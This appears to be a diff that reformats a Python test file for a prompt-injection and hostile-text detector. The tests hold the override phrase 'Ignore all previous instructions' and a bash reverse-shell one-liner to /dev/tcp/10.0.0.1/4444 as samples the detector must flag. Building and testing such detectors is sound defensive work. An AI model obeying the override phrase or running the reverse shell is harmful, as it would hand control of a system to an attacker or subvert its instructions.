@@ -17,7 +17,9 @@ def test_inspect_plain_attack_is_critical_and_blocked() -> None:
 
 
 def test_inspect_attack_explains_itself() -> None:
-    """Category, rule, span, weight, what each reader said and the versions are all there."""
+    """Category, rule, span, weight, what each reader said and the versions are all
+    there.
+    """
     verdict = DETECTOR.inspect(f"Hello. {ATTACK}")
     threat = verdict.threats[0]
     assert {"prompt_injection", "data_extraction"} <= set(verdict.categories)
@@ -88,7 +90,9 @@ def test_inspect_attack_at_the_end_of_a_long_text_is_found_inline() -> None:
     text = "The weather was fine that day. " * 400 + ATTACK
     verdict = DETECTOR.inspect(text)
     assert verdict.partial
-    assert any(text[threat.start : threat.end] == "Ignore all previous instructions" for threat in verdict.threats)
+    assert any(
+        text[threat.start : threat.end] == "Ignore all previous instructions" for threat in verdict.threats
+    )
 
 
 def test_inspect_attack_in_the_middle_of_a_long_text_is_found_in_full_depth() -> None:
@@ -97,7 +101,9 @@ def test_inspect_attack_in_the_middle_of_a_long_text_is_found_in_full_depth() ->
     assert not DETECTOR.inspect(text).threats
     verdict = DETECTOR.inspect(text, depth="full")
     assert verdict.action is not Action.ALLOW
-    assert any(text[threat.start : threat.end] == "Ignore all previous instructions" for threat in verdict.threats)
+    assert any(
+        text[threat.start : threat.end] == "Ignore all previous instructions" for threat in verdict.threats
+    )
 
 
 def test_inspect_rules_silent_is_capped_below_critical() -> None:
@@ -109,10 +115,14 @@ def test_inspect_rules_silent_is_capped_below_critical() -> None:
 
 
 def test_inspect_near_certain_rule_is_critical_whatever_the_models_say() -> None:
-    """A payload that nobody types by chance needs no second opinion, unless it is quoted or asked about."""
+    """A payload that nobody types by chance needs no second opinion, unless it is
+    quoted or asked about.
+    """
     strict = PromptDetector.load(config=DetectorConfig(agreeing_points=1000.0))
     assert strict.inspect("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").level is Level.CRITICAL
-    assert strict.inspect("What does `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` do?").level is not Level.CRITICAL
+    assert (
+        strict.inspect("What does `bash -i >& /dev/tcp/10.0.0.1/4444 0>&1` do?").level is not Level.CRITICAL
+    )
 
 
 def test_config_levels_out_of_order_are_refused() -> None:
@@ -147,7 +157,11 @@ def test_rules_only_names_the_rules_and_asks_no_model() -> None:
         st.text(max_size=400),
         st.binary(max_size=400).map(lambda raw: raw.decode("latin-1")),
         st.binary(max_size=400).map(
-            lambda raw: raw.decode("utf-16", "surrogatepass") if len(raw) % 2 == 0 and raw[:2] not in (b"\xff\xfe", b"\xfe\xff") and _valid(raw) else ""
+            lambda raw: (
+                raw.decode("utf-16", "surrogatepass")
+                if len(raw) % 2 == 0 and raw[:2] not in (b"\xff\xfe", b"\xfe\xff") and _valid(raw)
+                else ""
+            )
         ),
     )
 )
@@ -193,6 +207,8 @@ HOSTILE = {
 
 @pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
 def test_inspect_hostile_text_gives_a_verdict(text: str) -> None:
-    """Texts made to hurt are judged like any other; what they cost is a benchmark's business."""
+    """Texts made to hurt are judged like any other; what they cost is a benchmark's
+    business.
+    """
     assert DETECTOR.inspect(text).level in Level
     assert DETECTOR.inspect(text[:20_000], depth="full").level in Level
